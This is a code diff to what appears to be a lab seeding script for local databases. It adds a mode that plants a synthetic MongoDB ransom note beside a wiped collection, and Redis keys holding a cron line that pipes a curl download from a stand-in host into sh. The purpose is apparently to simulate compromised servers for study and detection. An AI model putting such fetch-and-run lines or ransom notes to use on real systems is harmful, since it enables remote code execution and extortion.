@@ -111,6 +111,49 @@ def seed_mongodb(
         client.close()
 
 
+# ------------------------------------------------------------------------------ compromise
+#: A synthetic ransom note of the kind left in open MongoDB servers since 2017. The Bitcoin
+#: address is made up (it has the shape, no wallet has it); the contact is a reserved domain.
+RANSOM_NOTE = (
+    "All your data is backed up. You must pay 0.015 BTC to 1AjarLabFakeRansomAddre5sXyZ12345 "
+    "within 48 hours to recover it. After paying, email restore@example.org with your server IP."
+)
+#: The cron line crypto-mining campaigns write into open Redis servers (via CONFIG SET dir);
+#: synthetic: the address is a reserved, unresolvable domain.
+CRON_PAYLOAD = "\n\n*/1 * * * * root curl -fsSL http://miner.example.invalid/init.sh | sh\n\n"
+
+
+def seed_ransom_mongodb(host: str, port: int = 27017) -> Counts:
+    """The 2019 shape: a ransom note database beside a collection wiped to zero."""
+    from pymongo import MongoClient
+
+    client: MongoClient[dict[str, Any]] = MongoClient(host, port, directConnection=True, serverSelectionTimeoutMS=5000)
+    try:
+        note_db = client["READ_ME_TO_RECOVER_YOUR_DATA"]
+        note_db.drop_collection("README")
+        note_db["README"].insert_one({"content": RANSOM_NOTE, "db": "crm"})
+        crm = client["crm"]
+        crm.drop_collection("customers")
+        crm["customers"].insert_one({"wiped": True})
+        crm["customers"].delete_many({})  # an emptied collection, as the attackers leave it
+        return {"READ_ME_TO_RECOVER_YOUR_DATA.README": 1, "crm.customers": crm["customers"].count_documents({})}
+    finally:
+        client.close()
+
+
+def seed_redis_cron(host: str, port: int = 6379, *, password: str | None = None) -> Counts:
+    """Keys ``backup1``..``backup4`` holding the cron payload of a Redis crypto-mining campaign."""
+    import redis
+
+    r = redis.Redis(host, port, db=0, password=password, socket_timeout=5)
+    try:
+        for i in range(1, 5):
+            r.set(f"backup{i}", CRON_PAYLOAD)
+        return {"db0.backup": 4}
+    finally:
+        r.close()
+
+
 # ------------------------------------------------------------------------------ redis
 def seed_redis(host: str, port: int = 6379, *, password: str | None = None, seed: int = 2026) -> Counts:
     import redis
@@ -628,8 +671,10 @@ def seed_couchdb(
 def _dispatch(a: argparse.Namespace) -> Counts:
     e, h, p = a.engine, a.host, a.port or DEFAULT_PORTS[a.engine]
     table: dict[str, Callable[[], Counts]] = {
-        "mongodb": lambda: seed_mongodb(h, p, seed=a.seed, per_minute=a.per_minute),
-        "redis": lambda: seed_redis(h, p, password=a.password, seed=a.seed),
+        "mongodb": lambda: {**seed_mongodb(h, p, seed=a.seed, per_minute=a.per_minute),
+                            **(seed_ransom_mongodb(h, p) if a.compromised else {})},
+        "redis": lambda: {**seed_redis(h, p, password=a.password, seed=a.seed),
+                          **(seed_redis_cron(h, p, password=a.password) if a.compromised else {})},
         "postgres": lambda: seed_postgres(h, p, user=a.user or "postgres", password=a.password, seed=a.seed),
         "mariadb": lambda: seed_mariadb(h, p, user=a.user or "root", password=a.password, seed=a.seed),
         "mqtt": lambda: seed_mqtt(h, p, user=a.user, password=a.password, seed=a.seed, live=a.live, seconds=a.seconds),
@@ -662,6 +707,8 @@ def main(argv: list[str] | None = None) -> int:
     ap.add_argument("--live", action="store_true", help="mqtt: keep publishing every second")
     ap.add_argument("--seconds", type=float, help="mqtt --live: stop after this many seconds")
     ap.add_argument("--enable-auth", action="store_true", help="etcd: enable auth after seeding")
+    ap.add_argument("--compromised", action="store_true",
+                    help="mongodb: add a ransom note and a wiped collection; redis: add cron-job payload keys")
     a = ap.parse_args(argv)
     if not (a.host.startswith("127.") or a.host in ("::1", "localhost")):
         ap.error("the lab seeds loopback addresses only")
